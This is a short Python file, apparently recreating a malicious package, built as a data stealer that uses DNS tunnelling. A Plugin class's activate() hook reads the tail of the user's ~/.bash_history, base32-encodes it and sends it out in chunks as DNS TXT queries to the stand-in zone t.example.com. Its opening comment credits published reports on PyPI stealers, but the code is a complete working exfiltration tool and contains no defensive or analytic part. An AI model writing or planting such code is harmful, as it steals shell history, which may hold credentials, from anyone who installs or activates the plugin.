# Inspired by the 2023 'DNS tunnelling' PyPI stealer reports (Phylum) that use dnspython TXT queries with base32-encoded chunks of stolen files.
import base64
from pathlib import Path

import dns.resolver as R


class Tunnel:
    def __init__(self, zone="t.example.com"):
        self.zone = zone
        self.q = R.Resolver()

    def _chunks(self, blob):
        enc = base64.b32encode(blob).decode().rstrip("=").lower()
        for i in range(0, len(enc), 50):
            yield i // 50, enc[i:i + 50]

    def send(self, blob):
        for seq, part in self._chunks(blob):
            try:
                self.q.resolve(f"{part}.{seq}.{self.zone}", "TXT")
            except Exception:
                continue


def _grab():
    p = Path.home() / ".bash_history"
    return p.read_bytes()[-2048:] if p.exists() else b""


class Plugin:
    def activate(self, host):
        Tunnel().send(_grab())
